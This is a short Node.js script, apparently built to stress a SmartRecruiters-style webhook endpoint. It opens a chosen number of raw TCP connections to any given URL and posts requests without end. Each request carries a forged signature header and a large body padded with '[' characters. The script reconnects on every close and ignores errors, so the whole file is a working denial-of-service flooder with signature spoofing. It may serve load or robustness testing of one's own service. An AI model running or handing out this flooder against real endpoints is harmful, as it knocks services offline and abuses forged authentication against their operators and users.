/** A stranger of his own process: `node flood.js URL PATH CONNECTIONS BYTES` posts forged bodies until it is killed. */
import { connect } from "node:net";

const [url = "", path, connections, bytes] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const headers = [
  `POST ${path} HTTP/1.1`,
  "host: localhost",
  "content-type: application/json",
  `x-smartrecruiters-signature: ${"a1".repeat(32)}`,
  `content-length: ${bytes}`,
];
const call = Buffer.concat([
  Buffer.from(`${headers.join("\r\n")}\r\n\r\n`),
  Buffer.alloc(Number(bytes), "["),
]);

function flood() {
  const socket = connect({ host: hostname, port: Number(port) });
  socket.on("data", () => socket.write(call)).on("error", () => {});
  socket.on("close", flood);
  socket.write(call);
}
for (let n = 0; n < Number(connections); n += 1) flood();
